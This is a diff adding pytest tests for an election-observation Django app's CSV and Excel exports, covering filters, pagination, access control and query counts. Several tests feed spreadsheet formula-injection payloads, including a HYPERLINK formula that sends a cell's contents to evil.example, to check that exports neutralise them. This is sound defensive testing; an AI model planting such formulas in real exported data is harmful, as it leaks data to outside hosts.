@@ -1,0 +1,202 @@
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from observation.exports import neutralise
+from observation.views import lists
+from tests import factories
+
+
+@pytest.fixture
+def staff_client(client, staff):
+    client.force_login(staff)
+    return client
+
+
+def _csv_rows(response):
+    assert response.streaming
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def _xlsx_rows(response):
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
+    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]
+
+
+def _list_codes(client, url, query):
+    """The station codes a list shows across all its pages."""
+    codes, page = [], 1
+    while True:
+        response = client.get(url, {**query, "page": page})
+        codes += [row.station.code for row in response.context["page"]]
+        if not response.context["page"].has_next():
+            return codes
+        page += 1
+
+
+def test_filtered_report_export_holds_exactly_the_rows_of_the_list(
+    staff_client, mission, monkeypatch
+):
+    monkeypatch.setattr(lists, "PAGE_SIZE", 15)
+    first = factories.ElectionRoundFactory(mission=mission)
+    for n in range(120):
+        station = factories.PollingStationFactory(
+            mission=mission, area_1="Lima" if n % 3 else "Puno"
+        )
+        factories.ObserverReportFactory(
+            mission=mission,
+            round=first,
+            station=station,
+            phase="counting" if n % 2 else "voting",
+        )
+    query = {"area_1": "Lima", "phase": "counting"}
+    listed = _list_codes(staff_client, reverse("observation:report_list", args=[mission.pk]), query)
+    assert len(listed) == 40  # on three pages
+    url = reverse("observation:report_export", args=[mission.pk, "csv"])
+
+    header, *rows = _csv_rows(staff_client.get(url, query))
+
+    assert header[:4] == ["Report", "Round", "Station code", "Station name"]
+    assert [row[2] for row in rows] == listed
+    assert {row[header.index("Department")] for row in rows} == {"Lima"}
+    assert {row[header.index("Phase")] for row in rows} == {"Counting"}
+
+
+def test_filtered_station_export_spans_all_pages(staff_client, mission):
+    factories.PollingStationFactory.create_batch(130, mission=mission, area_1="Cusco")
+    factories.PollingStationFactory.create_batch(10, mission=mission, area_1="Tacna")
+    factories.PollingStationFactory.create_batch(5)  # another mission's
+    list_url = reverse("observation:station_list", args=[mission.pk])
+    response = staff_client.get(list_url, {"area_1": "Cusco"})
+    assert response.context["page"].paginator.num_pages == 3
+    shown = []
+    for page in (1, 2, 3):
+        page_rows = staff_client.get(list_url, {"area_1": "Cusco", "page": page})
+        shown += [s.code for s in page_rows.context["page"]]
+    url = reverse("observation:station_export", args=[mission.pk, "xlsx"])
+
+    header, *rows = _xlsx_rows(staff_client.get(url, {"area_1": "Cusco", "page": 2}))
+
+    assert header == [
+        "Code",
+        "Name",
+        "Department",
+        "Province",
+        "District",
+        "Registered voters",
+        "Latitude",
+        "Longitude",
+    ]
+    assert [row[0] for row in rows] == shown
+    assert len(rows) == 130
+
+
+def test_filtered_irregularity_export_holds_the_filtered_rows(staff_client, mission, reviewer):
+    first = factories.ElectionRoundFactory(mission=mission)
+    verified = factories.IrregularityFactory.create_batch(3, mission=mission, round=first)
+    for irregularity in verified:
+        irregularity.verify(by=reviewer)
+    factories.IrregularityFactory.create_batch(4, mission=mission, round=first)
+    factories.IrregularityFactory(mission=mission, round=first, station=None)
+    url = reverse("observation:irregularity_export", args=[mission.pk, "csv"])
+
+    header, *rows = _csv_rows(staff_client.get(url, {"status": "verified"}))
+
+    assert sorted(int(row[0]) for row in rows) == sorted(i.pk for i in verified)
+    assert {row[header.index("Status")] for row in rows} == {"Verified"}
+    assert {row[header.index("Reviewed by")] for row in rows} == {reviewer.username}
+    everything = _csv_rows(staff_client.get(url))
+    assert len(everything) == 1 + 8
+    assert "national" in [row[2] for row in everything]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("Escuela 12", "Escuela 12"),
+        (-12.5, -12.5),
+    ],
+)
+def test_neutralise_defuses_formula_cells_only(value, expected):
+    assert neutralise(value) == expected
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exported_cell_starting_with_a_formula_is_neutralised(staff_client, mission, fmt):
+    factories.PollingStationFactory(
+        mission=mission, name='=HYPERLINK("http://evil.example","x")', latitude=-12.5, longitude=-77
+    )
+    url = reverse("observation:station_export", args=[mission.pk, fmt])
+    response = staff_client.get(url)
+
+    rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)
+
+    assert rows[1][1] == '\'=HYPERLINK("http://evil.example","x")'
+    # A negative number is a number, left alone.
+    assert str(rows[1][6]) in {"-12.5", "-12.500000"}
+
+
+def test_xlsx_export_cell_is_text_not_a_formula(staff_client, mission):
+    factories.PollingStationFactory(mission=mission, name="=1+1")
+    url = reverse("observation:station_export", args=[mission.pk, "xlsx"])
+    workbook = load_workbook(io.BytesIO(b"".join(staff_client.get(url).streaming_content)))
+
+    cell = workbook.active["B2"]
+
+    assert (cell.data_type, cell.value) == ("s", "'=1+1")
+
+
+def test_station_export_imports_back(staff_client, mission, settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+    factories.PollingStationFactory(mission=mission, code="0007", area_1="Áncash")
+    export = staff_client.get(reverse("observation:station_export", args=[mission.pk, "csv"]))
+    file = io.BytesIO(b"".join(export.streaming_content))
+    file.name = "stations.csv"
+
+    response = staff_client.post(
+        reverse("observation:station_import", args=[mission.pk]), {"file": file}
+    )
+
+    preview = response.context["preview"]
+    assert (preview.is_valid, preview.notices, preview.counts) == (
+        True,
+        [],
+        {"created": 0, "updated": 1},
+    )
+
+
+@pytest.mark.parametrize("name", ["station_export", "report_export", "irregularity_export"])
+def test_exports_are_for_members_only(client, stranger, mission, name):
+    url = reverse(f"observation:{name}", args=[mission.pk, "csv"])
+    assert client.get(url).status_code == 302
+    client.force_login(stranger)
+    assert client.get(url).status_code == 404
+
+
+def test_unknown_export_format_is_404(staff_client, mission):
+    url = reverse("observation:station_export", args=[mission.pk, "pdf"])
+    assert staff_client.get(url).status_code == 404
+
+
+def test_report_export_queries_do_not_grow_with_rows(
+    staff_client, mission, django_assert_num_queries
+):
+    first = factories.ElectionRoundFactory(mission=mission)
+    factories.ObserverReportFactory.create_batch(30, mission=mission, round=first)
+    url = reverse("observation:report_export", args=[mission.pk, "csv"])
+
+    # session, user, mission with role, area choices, reports with their related rows
+    with django_assert_num_queries(5):
+        _csv_rows(staff_client.get(url))
